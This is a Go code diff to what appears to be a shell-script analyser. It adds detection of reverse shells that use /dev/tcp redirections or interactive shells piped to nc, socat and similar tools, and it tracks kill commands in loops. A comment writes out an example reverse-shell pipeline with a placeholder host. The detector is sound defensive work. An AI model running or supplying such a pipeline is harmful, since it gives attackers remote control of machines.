@@ -253,6 +253,12 @@ func (s *state) stmt(st *syntax.Stmt, in data) data {
 		case syntax.RdrIn:
 			if d := s.contents(w); r.N == nil || r.N.Value == "0" {
 				in = d
+			} else if d.net {
+				s.descriptor(r.N.Value)
+			}
+		case syntax.DplIn:
+			if d, ok := s.fds[w.text]; ok && (r.N == nil || r.N.Value == "0") {
+				in = d
 			}
 		case syntax.Hdoc, syntax.DashHdoc:
 			in = s.expand(r.Hdoc).data
@@ -272,11 +278,18 @@ func (s *state) stmt(st *syntax.Stmt, in data) data {
 				outs = append(outs, target{w, true})
 			}
 		case syntax.RdrInOut:
-			if devTCPRE.MatchString(w.text) && (r.N == nil || r.N.Value == "0") {
+			switch {
+			case !devTCPRE.MatchString(w.text):
+			case r.N == nil || r.N.Value == "0":
 				in = data{net: true}
+			default:
+				s.descriptor(r.N.Value)
 			}
 		}
 		s.path(w.text)
+		if c, ok := st.Cmd.(*syntax.CallExpr); ok && devTCPRE.MatchString(w.text) && interactive(c) {
+			s.set("reverse_shell")
+		}
 	}
 	out := s.command(st.Cmd, in)
 	for _, t := range outs {
@@ -287,6 +300,26 @@ func (s *state) stmt(st *syntax.Stmt, in data) data {
 		out = data{known: true}
 	}
 	return out
+}
+
+// descriptor notes a file descriptor that leads to the network.
+func (s *state) descriptor(n string) {
+	if len(s.fds) < 64 {
+		s.fds[n] = data{net: true}
+	}
+}
+
+// interactive says that a command is a shell that takes orders: bash -i.
+func interactive(c *syntax.CallExpr) bool {
+	shell := false
+	for _, a := range c.Args {
+		l := a.Lit()
+		shell = shell || shells[path.Base(l)]
+		if shell && len(l) > 1 && l[0] == '-' && l[1] != '-' && strings.Contains(l, "i") {
+			return true
+		}
+	}
+	return false
 }
 
 // emptyOutput says that a redirected command serves to empty a file.
@@ -415,6 +448,7 @@ func (s *state) binary(c *syntax.BinaryCmd, in data) data {
 		c = next
 	}
 	kills := s.pipeKills(spine, first)
+	s.pipedShell(spine, first)
 	out := s.stmt(first, in)
 	for i := len(spine) - 1; i >= 0; i-- {
 		switch spine[i].Op {
@@ -428,6 +462,32 @@ func (s *state) binary(c *syntax.BinaryCmd, in data) data {
 		s.kill(k)
 	}
 	return out
+}
+
+// pipedShell notes a shell whose input or output goes over the network:
+// cat f | sh -i 2>&1 | nc HOST PORT > f.
+func (s *state) pipedShell(spine []*syntax.BinaryCmd, first *syntax.Stmt) {
+	orders := false
+	look := func(st *syntax.Stmt) {
+		c, ok := st.Cmd.(*syntax.CallExpr)
+		if !ok || len(c.Args) == 0 {
+			return
+		}
+		switch path.Base(c.Args[0].Lit()) {
+		case "nc", "ncat", "netcat", "telnet", "socat", "openssl":
+			if orders {
+				s.set("reverse_shell")
+			}
+		}
+		orders = orders || interactive(c)
+	}
+	look(first)
+	for i := len(spine) - 1; i >= 0; i-- {
+		if spine[i].Op != syntax.Pipe && spine[i].Op != syntax.PipeAll {
+			orders = false
+		}
+		look(spine[i].Y)
+	}
 }
 
 // pipeKills gives what `ps | grep NAME | xargs kill` kills.
@@ -498,8 +558,24 @@ func killArgs(c *syntax.CallExpr) []string {
 	if len(c.Args) == 0 || path.Base(c.Args[0].Lit()) != "kill" {
 		return nil
 	}
+	return substituted(c.Args[1:])
+}
+
+// runsKill says that one of the statements is kill.
+func runsKill(list []*syntax.Stmt) bool {
+	for _, st := range list {
+		if c, ok := st.Cmd.(*syntax.CallExpr); ok && len(c.Args) > 0 && path.Base(c.Args[0].Lit()) == "kill" {
+			return true
+		}
+	}
+	return false
+}
+
+// substituted gives the names that are looked for in the command substitutions of
+// words: $(pgrep NAME).
+func substituted(words []*syntax.Word) []string {
 	var out []string
-	for _, a := range c.Args[1:] {
+	for _, a := range words {
 		syntax.Walk(a, func(n syntax.Node) bool {
 			if st, ok := n.(*syntax.Stmt); ok {
 				if _, ok := st.Cmd.(*syntax.CallExpr); ok {
@@ -517,6 +593,11 @@ func (s *state) loop(c *syntax.ForClause, in data) data {
 	iter, ok := c.Loop.(*syntax.WordIter)
 	if !ok || iter.Name == nil {
 		return s.stmts(c.Do, in)
+	}
+	if names := substituted(iter.Items); len(names) > 0 && runsKill(c.Do) {
+		for _, n := range names {
+			s.kill(n)
+		}
 	}
 	var items []data
 	for _, w := range iter.Items {
